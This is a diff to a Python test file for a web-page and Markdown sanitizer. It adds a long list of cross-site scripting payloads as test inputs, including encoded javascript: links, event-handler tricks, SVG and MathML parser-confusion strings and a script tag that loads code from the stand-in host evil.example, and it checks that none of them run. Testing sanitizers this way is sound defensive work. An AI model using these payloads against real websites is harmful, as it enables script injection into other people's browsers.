@@ -44,13 +44,43 @@ HTML = [
     "<details open ontoggle=alert(1)>canary</details>",
     "%3Cscript%3Ealert(1)%3C/script%3Ecanary",
     "\x3cscript>alert(1)</script>canary",
+    '<IMG """><SCRIPT>alert(1)</SCRIPT>">canary',
+    "<img src=x:alert(alt) onerror=eval(src) alt=0>canary",
+    "<img src=`javascript:alert(1)`>canary",
+    "<img src='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>canary",
+    "<img src='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3Aalert(1)'>canary",
+    "<img src=' &#14; javascript:alert(1);'>canary",
+    "<img dynsrc='javascript:alert(1)' lowsrc='javascript:alert(1)'>canary",
+    "<img srcset='x, javascript:alert(1) 2x'>canary",
+    "<script/xss src='https://evil.example/x.js'></script>canary",
+    "<a href='java\nscript:alert(1)'>canary</a>",
+    "<a href='&#0000106&#0000097&#0000118&#0000097script:alert(1)'>canary</a>",
+    "<a href='//evil.example/' onfocus=alert(1) autofocus>canary</a>",
+    "<a href='feed:javascript:alert(1)'>canary</a>",
+    "<link rel=stylesheet href='javascript:alert(1);'>canary",
+    "<div style='width: expression(alert(1));background:url(javascript:alert(1))'>canary</div>",
+    "<table background='javascript:alert(1)'><tr><td background='javascript:x'>canary</td></table>",
+    "<bgsound src='javascript:alert(1)'><br size='&{alert(1)}'>canary",
+    "<marquee onstart=alert(1)>canary</marquee>",
+    "<svg><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>canary",
+    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'></use></svg>canary",
+    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>canary",
+    "<p>canary</p><!-- --!><script>alert(1)</script> -->",
+    "<select onchange=alert(1)><option>canary</option></select>",
+    "<math href='javascript:alert(1)'>canary</math>",
+    "<isindex type=image src=1 onerror=alert(1)>canary",
+    "<xml id=x><i><b><script>alert(1)</script></b></i></xml>canary",
+    "<label onclick=alert(1)>canary</label><keygen autofocus onfocus=alert(1)>",
     "<scr\0ipt>alert(1)</scr\0ipt>canary",
 ]
 # A browser reads it one way first and another way then, so the cleaner leaves all of it out.
-TWO_WAYS = "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table>canary"
+TWO_WAYS = [
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table>canary",
+    "<svg><a xlink:href='javascript:alert(1)'><text>canary</text></a></svg>",
+]
 MARKDOWN = [
     *HTML,
-    TWO_WAYS,
+    *TWO_WAYS,
     "[canary](javascript:alert(1))",
     "[canary](  JaVaScRiPt:alert(1))",
     "[canary](java&#115;cript:alert(1))",
@@ -121,8 +151,9 @@ def test_web_pages_run_nothing_and_keep_the_words(text):
     assert "alert(1)" not in shown or "<script" not in brought.body
 
 
-def test_a_web_page_that_is_read_in_two_ways_runs_nothing():
-    brought = bring("page.html", f"<html><body><p>Begin</p>{TWO_WAYS}</body></html>".encode())
+@pytest.mark.parametrize("text", TWO_WAYS)
+def test_a_web_page_that_is_read_in_two_ways_runs_nothing(text):
+    brought = bring("page.html", f"<html><body><p>Begin</p>{text}</body></html>".encode())
     check_harmless(str(markdown.render(brought.body).html))
 
 
